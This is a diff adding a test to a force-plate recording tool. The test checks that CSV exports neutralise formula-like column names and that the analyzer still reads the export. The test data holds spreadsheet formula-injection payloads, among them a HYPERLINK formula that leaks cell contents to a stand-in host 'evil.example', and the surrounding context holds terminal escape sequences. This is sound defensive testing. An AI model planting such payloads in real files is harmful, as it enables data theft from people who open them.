@@ -164,3 +164,25 @@ def test_sessions_on_a_terminal_escapes_control_characters_of_names_stored_befor
     assert "Ann\\x1b[2J\\x9b31m\\u200b" in run.stdout
     listed = json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)   # JSON keeps the name as is
     assert listed[0]["person"] == "Ann\x1b[2J\x9b31m\u200b"
+
+
+def test_an_export_shows_formula_like_column_names_as_text_and_analyze_still_reads_it(tmp_path):
+    rows = (tmp_path / "dj.csv")
+    source = (DATA_DIR / "gidiel_vj_single_dj.csv").read_text().splitlines()
+    evil = ['=HYPERLINK("http://evil.example/?"&A2)_n', "+1+1_n", "-2+3_n", "@SUM(A1)_n", "fz_n"]
+    body = [line.split(",") for line in source[1:]]
+    # the recording's force split over five cells, named as a hostile file might name them
+    rows.write_text(",".join(["t_s", *evil]) + "\n" + "".join(
+        f"{t},{','.join([repr(float(f) / 5)] * 5)}\n" for t, f in body))
+    run = forceplate("record", "--person", "Ann", "--source", f"replay:{rows}?speed=8", data_dir=tmp_path)
+    assert run.returncode == 0, run.stderr
+    live = [e for e in lines(run.stdout) if e["kind"] != "summary"]
+    exported = forceplate("export", "1", "--out", str(tmp_path / "out"), data_dir=tmp_path)
+    assert exported.returncode == 0, exported.stderr
+    csv_path = exported.stdout.split()[0]
+    with open(csv_path, encoding="utf-8") as fh:
+        header, first = fh.readline().rstrip("\n"), fh.readline()
+    assert header.split(",") == ["t_s", *("'" + name for name in evil[:4]), "fz_n"]
+    assert [float(cell) for cell in first.strip().split(",")]        # the numbers stay numbers, no quote
+    offline = _analyze(csv_path)["events"]            # contract section 2: analyze reads the export
+    assert [e["kind"] for e in offline] == [e["kind"] for e in live] == ["impact", "jump"]
